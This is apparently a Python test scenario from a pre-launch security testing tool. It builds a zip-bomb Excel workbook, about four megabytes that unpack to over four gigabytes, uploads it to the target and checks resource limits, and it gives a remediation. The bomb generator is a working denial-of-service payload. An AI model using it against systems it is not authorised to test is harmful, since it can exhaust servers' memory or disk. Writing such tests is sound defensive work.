"""Four gigabytes in four megabytes: more than the sizes in an archive's index can say."""

import io
import zipfile
from collections.abc import Iterator

from golive.api import (
    Capability,
    Filer,
    Gate,
    Heavy,
    Profile,
    Took,
    scenario,
    sheet,
    upload_watched,
    within_limits,
    workbook,
)

SHEET = "xl/worksheets/sheet1.xml"
BLOCK = b" " * (1024 * 1024)
BLOCKS = 4 * 1024 + 16
SEND_SECONDS, SETTLE_SECONDS = 30.0, 120.0


def bomb() -> bytes:
    """A workbook whose only sheet is four gigabytes of blanks; written piece by piece."""
    start, end = sheet("|").split(b"|")
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook(b""))) as skeleton:
        parts = {name: skeleton.read(name) for name in skeleton.namelist() if name != SHEET}
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        with archive.open(SHEET, "w", force_zip64=True) as member:
            member.write(start)
            for _ in range(BLOCKS):
                member.write(BLOCK)
            member.write(end)
    return content.getvalue()


@scenario(
    needs=[Capability.UPLOADS],
    requires=["observe.footprint"],
    evidence=Took,
    check=within_limits,
    remediation="Count what is unpacked as it is unpacked, and give up at a limit of its own; what "
    "an archive says of its sizes is said by whoever made it.",
    profile=Profile.FULL,
    deadline_seconds=300.0,
)
def hostile_bomb(gate: Gate) -> Iterator[Took]:
    """Four gigabytes in four megabytes cost little."""
    if gate.target.uploads:
        content = bomb()
        filer = Filer(gate, gate.target.uploads)
        heavy = Heavy("4 GB in 4 MB", filer.file(content, "golive.xlsx"), len(content))
        yield upload_watched(filer, heavy, send_seconds=SEND_SECONDS, settle_seconds=SETTLE_SECONDS)
